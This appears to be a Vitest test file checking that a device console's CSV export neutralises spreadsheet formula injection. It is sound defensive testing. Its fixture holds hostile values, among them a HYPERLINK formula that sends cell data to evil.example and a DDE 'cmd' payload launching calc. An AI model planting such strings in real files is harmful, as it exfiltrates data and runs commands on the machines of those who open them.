import { describe, expect, it } from 'vitest';
import type { DeviceSummary } from '../../../src/central/types.ts';
import { csvChunks } from '../../../src/console/export.ts';

/** The console's CSV export: device strings are hostile, and spreadsheets run formulas. */

const device = (o: Partial<DeviceSummary>): DeviceSummary => ({
  id: '0123456789abcdef',
  site: 'HQ',
  status: 'restricted',
  verdictStatus: 'restricted',
  ip: '10.20.0.2',
  mac: null,
  manufacturer: 'Hikvision',
  brand: 'Hikvision',
  model: 'DS-2CD2142FWD-I',
  firmware: null,
  serial: null,
  kind: 'camera',
  pack: 'us-ndaa-889',
  rule: 'hikvision',
  reason: 'made by Hikvision',
  firstSeen: '2026-12-01T00:00:00.000Z',
  lastSeen: '2026-12-01T00:00:00.000Z',
  lastAgent: 'agent-hq',
  agents: ['agent-hq'],
  review: null,
  ...o,
});

async function csv(devices: DeviceSummary[]): Promise<string> {
  async function* pages(): AsyncGenerator<DeviceSummary[]> {
    yield devices;
  }
  let out = '';
  for await (const chunk of csvChunks(pages())) out += chunk;
  return out;
}

/** The cells of a line as a spreadsheet reads it with this separator (quotes honoured, doubled quotes kept). */
function cells(line: string, sep: string): string[] {
  const out: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < line.length; i += 1) {
    const c = line[i]!;
    if (quoted) {
      if (c === '"' && line[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === sep) {
      out.push(cell);
      cell = '';
    } else cell += c;
  }
  out.push(cell);
  return out;
}

describe('the console\'s CSV export', () => {
  it('starts no cell with a formula, whichever separator the spreadsheet splits on (a semicolon in much of Europe)', async () => {
    const hostile = device({
      model: 'DS-2CD;=HYPERLINK("http://evil.example/?"&A1,"update")',
      brand: 'Lorex;+cmd|\' /C calc\'!A0',
      serial: 'SN1;-2+3;@SUM(A1:A9)',
      reason: 'covered, restricted;=1+1',
    });
    const lines = (await csv([hostile])).trim().split('\r\n');
    expect(lines).toHaveLength(2);
    for (const sep of [',', ';']) {
      for (const c of cells(lines[1]!, sep)) expect(c, `separator ${sep}: ${c}`).not.toMatch(/^[=+\-@]/u);
    }
    // Read with commas, as written: the values come back whole.
    const row = cells(lines[1]!, ',');
    const header = cells(lines[0]!, ',');
    expect(row[header.indexOf('model')]).toBe('DS-2CD;=HYPERLINK("http://evil.example/?"&A1,"update")');
    expect(row[header.indexOf('serial')]).toBe('SN1;-2+3;@SUM(A1:A9)');
  });

  it('leaves plain cells as they were', async () => {
    const lines = (await csv([device({})])).trim().split('\r\n');
    expect(lines[1]).toBe('restricted,restricted,HQ,10.20.0.2,,Hikvision,Hikvision,DS-2CD2142FWD-I,,,camera,us-ndaa-889,hikvision,made by Hikvision,,,,2026-12-01T00:00:00.000Z,2026-12-01T00:00:00.000Z,agent-hq,0123456789abcdef');
  });
});
